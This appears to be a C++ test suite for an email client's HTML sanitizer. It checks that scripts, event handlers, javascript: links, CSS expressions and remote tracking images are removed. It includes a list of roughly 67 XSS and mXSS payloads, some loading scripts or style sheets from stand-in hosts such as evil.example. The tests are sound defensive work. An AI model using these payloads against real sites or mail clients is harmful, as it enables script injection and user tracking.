// SPDX-License-Identifier: GPL-3.0-or-later
#include <chrono>
#include <string>
#include <vector>

#include <doctest/doctest.h>

#include "core/mime/charset.h"
#include "core/mime/html_sanitizer.h"
#include "tests/support/html_safety.h"

using cairn::mime::SanitizeOptions;
using cairn::mime::sanitize_html;
using cairn::testing::html_safety_problem;

namespace {

/// The start of a sanitised document up to its body, with `image_sources` in img-src.
std::string prefix_with_policy(const std::string& image_sources) {
    return "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta http-equiv=\"Content-Security-Policy\" "
           "content=\"default-src 'none'; style-src 'unsafe-inline'; img-src " +
           image_sources + "; base-uri 'none'; form-action 'none'\"></head><body>";
}

const std::string Prefix = prefix_with_policy("data: cid:");
const std::string Suffix = "</body></html>";

/// The body of a sanitised document whose img-src policy is `image_sources` and that has no
/// style sheet.
std::string body_of_with_policy(const std::string& document, const std::string& image_sources) {
    const std::string prefix = prefix_with_policy(image_sources);
    REQUIRE(document.starts_with(prefix));
    REQUIRE(document.ends_with(Suffix));
    return document.substr(prefix.size(), document.size() - prefix.size() - Suffix.size());
}

std::string body_of(const std::string& document) {
    return body_of_with_policy(document, "data: cid:");
}

std::string sanitized_body(const std::string& html) {
    return body_of(sanitize_html(html).html);
}

// Attack vectors: OWASP's XSS filter evasion list, the classic mXSS papers' cases, and CSS tricks.
const std::vector<std::string> AttackVectors{
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">tab</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">newline entity</a>",
    std::string("<a href=\"java\0script:alert(1)\">null</a>", 40),
    "<a href=\" &#14;  javascript:alert(1)\">leading controls</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template><template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<BASE HREF=\"javascript:alert(1);//\"><a href=\"x\">x</a>",
    "<form action=\"http://evil.example/\"><input type=submit formaction=\"javascript:alert(1)\"><button>go</button></form>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=\"javascript:alert(1)\">",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"width: exp/**/ression(alert(1))\">x</div>",
    "<div style=\"width: \\65 xpression(alert(1))\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background: u\\72l(http://tracker.example/p.gif)\">x</div>",
    "<div style=\"-moz-binding: url(http://evil.example/xss.xml#xss)\">x</div>",
    "<div style=\"behavior: url(xss.htc)\">x</div>",
    "<style>@import 'http://evil.example/xss.css';</style>",
    "<style>@im\\port 'http://evil.example/xss.css';</style>",
    "<style>body { background: url(\"http://tracker.example/open.gif\") }</style>",
    "<style>p { color: red }</style><style>a{x:1}</sty<style>le><script>alert(1)</script>",
    "<style></style><img src=x onerror=alert(1)>//</style>",
    "<img srcset=\"http://tracker.example/x.png 1x\" src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"http://tracker.example/b.gif\">x</td></tr></table>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<a href=\"http://ok.example/\" onclick=alert(1) onmouseover='alert(2)'>x</a>",
    "<div title=\"a\" \"onmouseover=alert(1)\">x</div>",
    "<div title='\"><script>alert(1)</script>'>x</div>",
    "<div title=``onmouseover=alert(1)>x</div>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)><p>x</p>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<a href=\"javascript&colon;alert(1)\">colon entity</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">upper</a>",
    "<link rel=stylesheet href=\"http://evil.example/x.css\"><style>@font-face{src:url(http://evil.example/f.woff)}</style>",
    "<div style=\"background-image: image-set('http://tracker.example/x.png' 1x)\">x</div>",
    "<div style=\"color:red;background:url(&quot;http://tracker.example/x&quot;)\">x</div>",
    "<xss style=\"xss:expression(alert(1))\">x</xss>",
    "<isindex type=image src=1 onerror=alert(1)><frameset onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<p style=\"font-family:'\\'; x: expression(alert(1))\">x</p>",
};

}  // namespace

TEST_SUITE("mime.html_sanitizer") {

TEST_CASE("attack vectors give documents with nothing that runs or loads") {
    CHECK(AttackVectors.size() >= 40);
    for (const std::string& vector : AttackVectors) {
        CAPTURE(vector);
        const std::string output = sanitize_html(vector).html;
        CAPTURE(output);
        CHECK(html_safety_problem(output) == "");
        CHECK(cairn::mime::is_valid_utf8(output));
        const std::string lowered = [&] {
            std::string text = output;
            for (char& character : text)
                character = static_cast<char>(std::tolower(static_cast<unsigned char>(character)));
            return text;
        }();
        CHECK(lowered.find("<script") == std::string::npos);
        CHECK(lowered.find("javascript:") == std::string::npos);
    }
}

TEST_CASE("the safety check itself finds unsafe documents") {
    CHECK(html_safety_problem("<p onclick=x>a</p>") == "event handler attribute onclick");
    CHECK(html_safety_problem("<script>x</script>") == "element script");
    CHECK(html_safety_problem("<a href=' java\tscript:x'>a</a>") == "href javascript:x");
    CHECK(html_safety_problem("<img src='http://x/y'>") == "src http://x/y");
    CHECK(html_safety_problem("<img src='http://x/y'>", true) == "");
    CHECK(html_safety_problem("<p style='width:e\\78pression(1)'>a</p>").starts_with("CSS holds expression("));
    CHECK(html_safety_problem("<svg></svg>") == "template or foreign element");
    CHECK(html_safety_problem("<meta http-equiv=refresh content='0;url=x'>") == "meta http-equiv=refresh");
}

TEST_CASE("the document has the charset, the policy and the body") {
    const std::string output = sanitize_html("hello").html;
    CHECK(output == Prefix + "hello" + Suffix);
    SanitizeOptions options;
    options.allow_remote_images = true;
    CHECK(sanitize_html("hello", options).html.find("img-src data: cid: https: http:; base-uri 'none'") !=
          std::string::npos);
}

TEST_CASE("formatting is kept and unknown elements keep their text") {
    CHECK(sanitized_body("<p>Hello <b>bold</b> <i>it</i> <u>u</u><br>next</p>") ==
          "<p>Hello <b>bold</b> <i>it</i> <u>u</u><br>next</p>");
    CHECK(sanitized_body("<blockquote><font face=\"Arial\" color=\"#f00\" size=\"2\">quoted</font></blockquote>") ==
          "<blockquote><font face=\"Arial\" color=\"#f00\" size=\"2\">quoted</font></blockquote>");
    CHECK(sanitized_body("<custom-tag data-x=\"1\">inner <marquee>text</marquee></custom-tag>") == "inner text");
    CHECK(sanitized_body("<p id=\"x\" name=\"y\" class=\"MsoNormal\" style=\"color: red; margin:0\">p</p>") ==
          "<p class=\"MsoNormal\" style=\"color: red; margin:0\">p</p>");
    CHECK(sanitized_body("<ul><li>one<li>two</ul><hr>") == "<ul><li>one</li><li>two</li></ul><hr>");
}

TEST_CASE("tables keep their layout attributes") {
    CHECK(sanitized_body("<table width=\"100%\" cellpadding=\"2\" border=\"0\"><tr><td colspan=\"2\" "
                         "bgcolor=\"#eee\" valign=\"top\">cell</td></tr></table>") ==
          "<table width=\"100%\" cellpadding=\"2\" border=\"0\"><tbody><tr><td colspan=\"2\" bgcolor=\"#eee\" "
          "valign=\"top\">cell</td></tr></tbody></table>");
}

TEST_CASE("links open outside the frame and keep only http, https and mailto") {
    CHECK(sanitized_body("<a href=\"https://example.org/a?b=1&amp;c=2\">x</a>") ==
          "<a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener noreferrer\" target=\"_blank\">x</a>");
    CHECK(sanitized_body("<a href=\"MAILTO:someone@example.org\">m</a>") ==
          "<a href=\"MAILTO:someone@example.org\" rel=\"noopener noreferrer\" target=\"_blank\">m</a>");
    CHECK(sanitized_body("<a href=\"ftp://example.org/\" target=\"_self\">f</a>") == "<a>f</a>");
    CHECK(sanitized_body("<a href=\"#top\">t</a>") == "<a>t</a>");
}

TEST_CASE("cid images are resolved through the viewer") {
    SanitizeOptions options;
    std::vector<std::string> asked;
    options.resolve_content_id = [&](std::string_view content_id) -> std::string {
        asked.emplace_back(content_id);
        return content_id == "logo@example" ? "data:image/png;base64,AAAA" : "";
    };
    const auto result = sanitize_html("<img src=\"cid:logo%40example\" alt=\"Logo\"><img src=\"CID:missing\">", options);
    CHECK(body_of(result.html) == "<img src=\"data:image/png;base64,AAAA\" alt=\"Logo\">");
    CHECK(asked == std::vector<std::string>{"logo@example", "missing"});
    CHECK(result.blocked_remote_resources == 0);
    // Without a resolver there is nothing to show.
    CHECK(sanitized_body("<img src=\"cid:logo@example\">") == "");
}

TEST_CASE("the viewer's own image scheme is allowed by the policy, and resolutions of another kind are not") {
    SanitizeOptions options;
    options.image_schemes = {"cairn-part:", "javascript:", "x; script-src *:"};
    options.resolve_content_id = [](std::string_view content_id) -> std::string {
        if (content_id == "good")
            return "cairn-part:7/2";
        return "javascript:alert(1)";
    };
    const auto result = sanitize_html("<img src=\"cid:good\"><img src=\"cid:bad\">", options);
    CHECK(result.html.find("img-src data: cid: cairn-part:; base-uri 'none'") != std::string::npos);
    CHECK(body_of_with_policy(result.html, "data: cid: cairn-part:") == "<img src=\"cairn-part:7/2\">");
}

TEST_CASE("remote images are blocked and counted unless allowed") {
    const std::string html = "<img src=\"https://tracker.example/pixel.gif\" width=\"1\">"
                             "<img src=\"//cdn.example/logo.png\">"
                             "<p style=\"background: url(http://tracker.example/bg.png); color: blue\">t</p>"
                             "<img src=\"data:image/gif;base64,R0lGOD\">";
    const auto blocked = sanitize_html(html);
    CHECK(body_of(blocked.html) == "<p style=\"color: blue\">t</p><img src=\"data:image/gif;base64,R0lGOD\">");
    CHECK(blocked.blocked_remote_resources == 3);

    SanitizeOptions options;
    options.allow_remote_images = true;
    const auto allowed = sanitize_html(html, options);
    CHECK(allowed.blocked_remote_resources == 0);
    CHECK(allowed.html.find("<img src=\"https://tracker.example/pixel.gif\" width=\"1\"><img "
                            "src=\"//cdn.example/logo.png\"><p style=\"background: url(http://tracker.example/bg.png); "
                            "color: blue\">t</p>") != std::string::npos);
    CHECK(html_safety_problem(allowed.html, true) == "");
}

TEST_CASE("text entities stay escaped and quotes in attributes cannot break out") {
    CHECK(sanitized_body("a &lt;b&gt; &amp; &quot;c&quot; caf&eacute; &#x4E2D;") ==
          "a &lt;b&gt; &amp; &quot;c&quot; café 中");
    CHECK(sanitized_body("<span title='say \"hi\" &amp; <bye>'>s</span>") ==
          "<span title=\"say &quot;hi&quot; &amp; &lt;bye&gt;\">s</span>");
}

TEST_CASE("style sheets are kept in the head without what loads or runs") {
    const std::string html = "<html><head><style><!-- p { color: red; background: url(http://t.example/x) }\n"
                             "@import url(x.css); @media screen { .a { margin: 0 } }\n"
                             "@font-face { font-family: x; src: url(http://t.example/f) }\n"
                             "td { width: expression(1) } --></style></head><body>x</body></html>";
    const auto result = sanitize_html(html);
    const std::string expected_style = "<style>\np{color: red}\n@media screen{.a{margin: 0}\n}\n</style>";
    CHECK(result.html.find(expected_style) != std::string::npos);
    CHECK(result.blocked_remote_resources == 1);
    CHECK(html_safety_problem(result.html) == "");
}

TEST_CASE("invalid UTF-8 becomes replacement characters") {
    const std::string output = sanitized_body("<p>ok \xff\xfe end \xe4</p>");
    CHECK(output == "<p>ok \xEF\xBF\xBD\xEF\xBF\xBD end \xEF\xBF\xBD</p>");
}

TEST_CASE("deep nesting is flattened quickly") {
    std::string html;
    for (int level = 0; level < 100000; ++level)
        html += "<div>";
    html += "deep";
    const auto start = std::chrono::steady_clock::now();
    const auto result = sanitize_html(html);
    const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    CHECK(seconds < 5.0);
    CHECK(result.html.find("deep") != std::string::npos);
    std::size_t opened = 0;
    for (std::size_t position = result.html.find("<div>"); position != std::string::npos;
         position = result.html.find("<div>", position + 1))
        ++opened;
    CHECK(opened == SanitizeOptions{}.max_depth);
    CHECK(html_safety_problem(result.html) == "");
}

TEST_CASE("input over the limit is cut at a character boundary") {
    SanitizeOptions options;
    options.max_input_bytes = 5;
    CHECK(body_of(sanitize_html("ab日本", options).html) == "ab日");
}

}
